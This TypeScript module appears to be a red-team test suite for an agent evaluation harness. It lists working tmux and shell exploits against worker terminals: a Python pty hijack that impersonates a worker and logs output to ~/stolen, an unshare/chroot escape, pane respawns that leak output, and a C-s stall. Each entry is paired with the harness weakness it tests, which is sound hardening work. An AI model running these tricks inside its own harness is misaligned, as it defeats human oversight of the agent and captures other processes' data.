import type { Exploit } from './exploit.ts';

/** A process that looks like a restarted worker to all but the server's record, on a terminal of the agent's. */
const claim = `cat > ~/fake.py <<'CLAIM'
import fcntl, os, pty, sys, termios
mine, theirs = pty.openpty()
if os.fork() == 0:
    os.close(theirs)
    with open(os.environ['HOME'] + '/stolen', 'wb', 0) as stolen:
        while True:
            try: stolen.write(os.read(mine, 1000))
            except OSError: os._exit(0)
try: os.setsid()
except OSError: pass
fcntl.ioctl(theirs, termios.TIOCSCTTY, 0)
for each in range(3): os.dup2(theirs, each)
os.environ['TMUX_PANE'] = sys.argv[1]
os.execv(sys.argv[2], sys.argv[2:])
CLAIM
tmux run-shell -b "exec python3 ~/fake.py $P $WORKER $W"; until pgrep -P $(server) -fx "$WORKER $W" >/dev/null; do :; done
pgrep -P $(server) -fxc "$WORKER $W"`;

const leaks = { type: 'leaks' } as const;
const talking = { weakness: 'talking-workers', change: 'worker-tokens' } as const;

/** Has the gym print on a terminal that is not the worker’s. */
export const terminals: readonly Exploit[] = [
  {
    id: '55',
    what: 'leads the gym to another root by links',
    task: 'D4',
    script:
      'mkdir -p ~/r/dev/pts ~/r/proc ~/r/opt; cp $WORKER ~/r/opt/worker; for i in $(seq 0 40); do ln -s /dev/pts/$i ~/r/dev/pts/$i; done; tmux set-option -w -t $P remain-on-exit on; tmux respawn-pane -k -t $P "unshare -Ur /usr/sbin/chroot ~/r /opt/worker $W"; unshare -Ur /usr/sbin/chroot ~/r /opt/worker $W; sleep 2; tmux capture-pane -p -t $P',
    expected: 'R0',
    shows: /unshare.*(ailed|not permitted)/,
    aim: { type: 'prints', pattern: /the action was ended/ },
    disarm: { weakness: 'no-filter' },
  },
  {
    id: '56b',
    what: 'respawns the pane with a shell that runs the worker',
    task: 'D4',
    script:
      'tmux respawn-pane -k -t $P bash; tmux send-keys -t $P "$WORKER $W" Enter; sleep 2; tmux capture-pane -p -t $P',
    expected: 'R0',
    shows: /(worker|holder) /,
    twin: 'for w in $WS; do tmux respawn-pane -k -t $w bash; tmux respawn-pane -k -t $w $WORKER $w; done; sleep 1; read_all',
    aim: leaks,
    disarm: talking,
  },
  {
    id: '56c',
    what: 'runs the start command by hand and in windows of its own',
    task: 'D4',
    script:
      '$WORKER $W & tmux new-window -d -n mine "$WORKER $W"; tmux split-window -d -t $P "$WORKER $W"; sleep 2; kill $!; tmux list-panes -a -F "#{pane_start_command}" | grep -c " $W"',
    expected: 'R0',
    shows: /^[34]\n/m,
    twin: 'tmux new-window -d -n mine "$WORKER $W"; tmux kill-window -t mine; oracle',
    aim: leaks,
    disarm: talking,
  },
  {
    id: '57',
    what: 'stops terminals by C-s, so that they take no more',
    task: 'D4',
    script: 'hold; sleep 2; read_all; wc -c < $REPORT',
    expected: 'R0',
    shows: /^0\n/m,
    twin: 'hold; sleep 2; for w in $WS; do tmux send-keys -t $w C-q; done; sleep 1; read_all',
    aim: { type: 'stalls', ms: 2_000 },
    disarm: { weakness: 'waits-for-terminals' },
  },
  {
    id: 'x-claim',
    what: 'has two processes claim one pane',
    task: 'D4',
    script: `${claim}; tmux respawn-pane -t $P; sleep 2; echo "stolen: $(wc -c < ~/stolen)"`,
    expected: 'R0',
    shows: /^1\n[\s\S]*^stolen: /m,
    aim: { type: 'prints', pattern: /^stolen: [1-9]/m },
    disarm: { weakness: 'believes-claims' },
  },
];
